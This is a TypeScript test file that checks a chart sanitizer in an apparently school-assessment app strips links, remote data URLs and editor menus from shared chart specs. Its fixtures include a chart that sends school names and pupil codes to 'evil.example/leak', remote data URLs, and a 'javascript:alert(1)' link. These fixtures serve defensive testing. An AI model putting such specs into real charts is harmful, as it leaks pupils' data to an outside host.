import { describe, expect, it } from 'vitest';
import { buildChartSpec } from '../../src/core/charts/chart-spec.ts';
import { sanitizeChart } from '../../src/core/charts/sanitize.ts';
import { removedFromChart, sanitizeIndicatorDef } from '../../src/core/indicators/custom.ts';
import { CATALOGUE } from '../../src/core/indicators/index.ts';
import { chartOf } from './catalogue-helpers.ts';

/** The chart of the shared indicator that sent pupils' marks to another origin (issue 9, finding 1). */
const LEAKING_CHART = {
  usermeta: { embedOptions: { actions: true, editorUrl: 'https://evil.example/editor', i18n: { PNG_ACTION: 'Скачать отчёт (PDF)' } } },
  mark: { type: 'bar', href: 'https://evil.example/x', cursor: 'pointer' },
  transform: [{ calculate: "'https://evil.example/leak?school=' + datum.school + '&code=' + datum.code", as: 'link' }],
  encoding: {
    x: { field: 'mark', type: 'quantitative' },
    y: { field: 'school', type: 'nominal' },
    href: { field: 'link', type: 'nominal' },
    url: { field: 'link', type: 'nominal' },
  },
  layer: undefined,
};

describe('a chart is data, never active content', () => {
  it('the leaking chart loses its menu, its links and its requests, and keeps its bars', () => {
    const { spec, removed } = sanitizeChart(JSON.parse(JSON.stringify(LEAKING_CHART)));
    expect(spec).toEqual({
      mark: { type: 'bar', cursor: 'pointer' },
      transform: [{ calculate: "'https://evil.example/leak?school=' + datum.school + '&code=' + datum.code", as: 'link' }],
      encoding: { x: { field: 'mark', type: 'quantitative' }, y: { field: 'school', type: 'nominal' } },
    });
    expect(removed).toEqual(['usermeta', 'mark.href', 'encoding.href', 'encoding.url']);
    expect(JSON.stringify(spec)).not.toMatch(/usermeta|href|editorUrl/);
  });

  it('url data, image marks, bound elements and links anywhere are dropped; inline values stay', () => {
    const { spec, removed } = sanitizeChart({
      $schema: 'https://evil.example/schema.json',
      data: { url: 'https://evil.example/data.csv', values: [{ a: 1 }] },
      layer: [
        { mark: 'image', encoding: { url: { field: 'a' } } },
        { mark: 'rule', encoding: { y: { datum: 5 } } },
      ],
      transform: [{ lookup: 'a', from: { data: { url: '//evil.example/t.json' }, key: 'a' } }],
      params: [{ name: 'p', bind: { input: 'range', element: '#import-input' } }],
      title: { text: 'Итог', href: 'javascript:alert(1)' },
      autosize: 'fit-x',
      signals: [{ name: 'x' }],
    });
    expect(spec).toEqual({
      data: { values: [{ a: 1 }] },
      layer: [{ mark: 'rule', encoding: { y: { datum: 5 } } }],
      transform: [{ lookup: 'a', from: { data: {}, key: 'a' } }],
      params: [{ name: 'p', bind: { input: 'range' } }],
      title: { text: 'Итог' },
      autosize: 'fit-x',
    });
    expect(removed).toEqual(
      expect.arrayContaining(['$schema', 'data.url', 'layer[0]', 'transform[0].from.data.url', 'params[0].bind.element', 'title.href', 'signals']),
    );
  });

  it('every chart of the catalogue passes unchanged', () => {
    for (const def of CATALOGUE) {
      const full = buildChartSpec(chartOf(def), { columns: def.columns.map((c) => c.name), rows: [] }, { title: def.title });
      const { spec, removed } = sanitizeChart(full);
      expect(removed, def.id).toEqual([]);
      expect(spec, def.id).toEqual(full);
    }
  });

  it('a shared definition is stored with the clean chart, and says what was removed', () => {
    const def = sanitizeIndicatorDef({
      id: 'U1',
      title: 'Отметки',
      mechanism: 'Свои показатели',
      source: 'коллега',
      formula: 'отметки по ОО',
      params: [],
      sql: "SELECT 1 AS mark, 'ОО' AS school",
      columns: [
        { name: 'mark', label: 'Отметка' },
        { name: 'school', label: 'ОО' },
      ],
      chart: LEAKING_CHART,
    });
    expect(JSON.stringify(def.chart)).not.toMatch(/usermeta|href|evil\.example\/editor/);
    expect(removedFromChart(def)).toEqual(['usermeta', 'mark.href', 'encoding.href', 'encoding.url']);
  });
});

describe('what a query reads', () => {
  it('names the tables and columns beneath views, from the compiled program, running nothing', async () => {
    const { freshDatabase } = await import('./sqlite.ts');
    const { queryReads } = await import('../../src/core/indicators/reads.ts');
    const db = freshDatabase();
    const reads = queryReads(db, `SELECT s.full_name, v.participant_code, v.mark FROM v_vpr v JOIN school s USING (school_id) WHERE v.year = :year`);
    expect(reads.map((r) => r.table)).toEqual(['assessment', 'result', 'school']);
    const result = reads.find((r) => r.table === 'result')!.columns;
    expect(result).toEqual(expect.arrayContaining(['participant_code', 'mark', 'absent', 'school_id', 'assessment_id']));
    expect(reads.find((r) => r.table === 'school')!.columns).toEqual(expect.arrayContaining(['full_name', 'school_id']));
    expect(reads.find((r) => r.table === 'assessment')!.columns).toEqual(expect.arrayContaining(['kind', 'year']));
    expect(() => queryReads(db, 'SELECT * FROM no_such_table')).toThrow();
  });
});
